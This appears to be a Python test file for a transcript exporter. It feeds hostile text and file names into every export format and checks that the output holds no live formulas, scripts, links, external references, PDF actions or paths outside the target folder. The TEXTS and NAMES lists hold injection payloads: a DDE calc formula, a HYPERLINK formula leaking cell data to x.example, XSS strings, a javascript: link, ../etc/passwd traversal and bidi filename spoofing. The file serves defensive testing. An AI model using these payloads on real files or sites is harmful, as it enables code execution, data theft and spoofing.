"""Texts and names that try to run, to break out of a file, or to reorder what is around them."""

import csv
import re
import zipfile
from dataclasses import replace
from html.parser import HTMLParser
from io import BytesIO, StringIO
from pathlib import Path
from xml.etree import ElementTree

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fi_desktop.core.review import ReviewedTranscript
from fi_desktop.core.transcript import Person, Segment, Transcript, Turn, Word
from fi_desktop.exporters import EXPORTERS
from fi_desktop.exporters.exporter import ExportOptions
from fi_desktop.exporters.files import export, file_name, rendered, target_files
from fi_desktop.exporters.phrases import LABELS
from tests.exporters import hour

TEXTS = [
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://x.example/?q="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "＝1+1",
    "\t=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style></title><svg onload=alert(1)>",
    "[link](javascript:alert(1)) ![i](http://x.example/i.png) `code` # a",
    "&lt;b&gt; &amp; &#60;",
    "]]> <!-- <?xml?> -->",
    "../../../etc/passwd",
    "CON",
    "safe\u202egpj.exe",
    "\u2066isolated\u2069 \u202aembedded\u202c",
    "nul\x00beep\x07escape\x1b[31m",
    "line\nbreak\r\nand\ttab\u2028para\u2029",
    "half \udce9 and \ufffe",
    '"quoted" ""twice"" \\backslash',
    "00:00:01,000 --> 00:00:02,000",
    "{\\an8}{b}",
    "(unbalanced ) parens \\) ET Q",
    "a" * 3000,
    "👨‍👩‍👧‍👦 e\u0301 🏳️‍🌈",
]
CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
BINARY = ("docx", "pdf", "json")
TEXT_FORMATS = [format for format in EXPORTERS if EXPORTERS[format].extension not in BINARY]
OPTIONS = ExportOptions(LABELS["es"])


def hostile(text: str) -> ReviewedTranscript:
    """A transcript in which everything that a person or a recording names is this text."""
    words = tuple(Word(at / 2, at / 2 + 0.5, word, 0.2) for at, word in enumerate(text.split()))
    segments = (
        Segment(0.0, 5.0, "SPEAKER_00", text, words),
        Segment(5.0, 6.0, text, text),
        Segment(6.0, 7.0, "SPEAKER_00"),
    )
    transcript = Transcript(
        duration=8.0,
        speech=7.0,
        turns=(Turn(0.0, 5.0, "SPEAKER_00"), Turn(5.0, 6.0, text)),
        segments=segments,
        provenance=replace(hour.PROVENANCE, source_name=f"{text}.wav", source_sha256=text, engine=text),
        language="es",
        people=(Person("SPEAKER_00", text),),
    )
    return ReviewedTranscript(transcript)


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("format", TEXT_FORMATS)
def test_text_formats_have_no_controls(format, text):
    assert not CONTROLS.search(rendered(hostile(text), format, OPTIONS).decode("utf-8"))


class _Tags(HTMLParser):
    """Collects tags and their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.mark.parametrize("text", TEXTS)
def test_page_has_only_its_tags(text):
    parser = _Tags()
    parser.feed(rendered(hostile(text), "html", OPTIONS).decode("utf-8"))
    known = "html head meta title style body header h1 dl dt dd p ul li main span b bdi i mark footer"
    attributes = {"lang", "charset", "http-equiv", "content", "name", "dir", "class"}
    assert parser.tags <= set(known.split())
    assert parser.attributes <= attributes
    parser.feed(rendered(hostile(text), "html-figures", OPTIONS).decode("utf-8"))
    assert parser.tags <= set(f"{known} section h2 div table thead tbody tr th td".split())
    assert parser.attributes <= attributes | {"scope", "style"}


@pytest.mark.parametrize("text", TEXTS)
def test_no_cell_of_the_table_is_a_formula(text):
    content = rendered(hostile(text), "csv", OPTIONS).decode("utf-8-sig")
    rows = list(csv.reader(StringIO(content, newline=""), strict=True))
    assert len(rows) == 4
    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r＝＋－＠|%"))]


@pytest.mark.parametrize("text", TEXTS)
def test_markdown_has_no_tags_and_no_links(text):
    content = rendered(hostile(text), "md", OPTIONS).decode("utf-8")
    assert not re.search(r"(?<!\\)(?:\\\\)*<", content)
    assert not re.search(r"(?<!\\)(?:\\\\)*\]\(", content)
    assert not re.search(r"(?<!\\)(?:\\\\)*`", content)


@pytest.mark.parametrize("text", TEXTS)
def test_word_file_is_well_formed_and_refers_to_nothing_outside(text):
    with zipfile.ZipFile(BytesIO(rendered(hostile(text), "docx", OPTIONS))) as package:
        assert package.testzip() is None
        for name in package.namelist():
            assert ".." not in name
            if name.endswith((".xml", ".rels")):
                root = ElementTree.fromstring(package.read(name))
                assert not [part for part in root.iter() if part.get("TargetMode") == "External"]
        body = package.read("word/document.xml").decode("utf-8")
    assert not CONTROLS.search(body)
    assert body.count("<w:instrText") == 0  # fields could load and run


@pytest.mark.parametrize("text", TEXTS)
def test_pdf_is_well_formed_and_has_no_actions(text):
    with pikepdf.open(BytesIO(rendered(hostile(text), "pdf", OPTIONS))) as pdf:
        assert pdf.check_pdf_syntax() == []
        assert not {"/AA", "/AcroForm", "/Names"} & set(pdf.Root.keys())
        assert not isinstance(pdf.Root.get("/OpenAction"), pikepdf.Dictionary)
        assert not [page for page in pdf.pages if "/Annots" in page]


@pytest.mark.parametrize("text", TEXTS)
def test_annotation_files_are_well_formed(text):
    root = ElementTree.fromstring(rendered(hostile(text), "eaf", OPTIONS))
    tiers = [tier.get("TIER_ID") for tier in root.iter("TIER")]
    assert len(tiers) == len(set(tiers)) == 2
    media = next(root.iter("MEDIA_DESCRIPTOR")).get("MEDIA_URL")
    assert media.startswith("./")
    assert "/" not in media[2:]
    grid = rendered(hostile(text), "textgrid", OPTIONS).decode("utf-8")
    assert all(line.count('"') % 2 == 0 for line in grid.splitlines())


@pytest.mark.parametrize("text", TEXTS)
def test_labels_have_three_fields(text):
    lines = rendered(hostile(text), "audacity", OPTIONS).decode("utf-8").split("\n")[:-1]
    assert [line.count("\t") for line in lines] == [2, 2, 2, 2]


NAMES = [
    "../../etc/passwd.wav",
    "..",
    ".wav",
    "/etc/passwd",
    "a" * 255 + ".wav",
    "ñ" * 200 + ".wav",
    "CON.wav",
    "x\u202egpj.wav",
]


@pytest.mark.parametrize("format", EXPORTERS)
@pytest.mark.parametrize("name", NAMES)
def test_nothing_is_written_outside_the_folder(tmp_path, name, format):
    folder = tmp_path / "exports"
    folder.mkdir()
    (target,) = target_files([name], format, folder)
    export(hostile("a"), format, target)
    assert [file.parent for file in tmp_path.rglob("*") if file.is_file()] == [folder]
    assert len(target.name.encode()) <= 255
    assert target.name.endswith(f".{EXPORTERS[format].extension}")


@pytest.mark.parametrize(
    ("name", "made"),
    [
        ("CON.wav", "_CON.txt"),
        ("com1.2026.wav", "_com1.2026.txt"),
        ("console.wav", "console.txt"),
        ("nul", "_nul.txt"),
        ('a<b>:"c"|d?*.wav', "a_b___c__d__.txt"),
        ("..\\..\\x.wav", ".._.._x.txt"),
        ("x\u202egpj.wav", "x_gpj.txt"),
        ("consulta nº 3 – García 😀.m4a", "consulta nº 3 – García 😀.txt"),
    ],
)
def test_names_are_accepted_by_every_system(name, made):
    assert file_name(name, "txt") == made


def test_name_of_nothing_still_has_its_ending():
    assert Path(file_name("..", "docx")).suffix == ".docx"


@pytest.mark.parametrize("format", ["docx", "pdf", "html", "md", "csv", "eaf", "textgrid", "audacity"])
@settings(max_examples=20)
@given(st.text(max_size=40))
def test_any_text_can_be_exported(format, text):
    assert rendered(hostile(text), format, OPTIONS)


def test_no_word_of_a_transcript_is_logged(caplog, capfd):
    caplog.set_level("DEBUG")
    for text in ("secreto", "🩺 漢字 ሰላም", "\ue000\ufffd"):
        for format in EXPORTERS:
            rendered(hostile(text), format, OPTIONS)
    logged = caplog.text + "".join(capfd.readouterr())
    assert not [text for text in ("secreto", "🩺", "漢", "1F9FA", "6F22", "\\ue000") if text in logged]
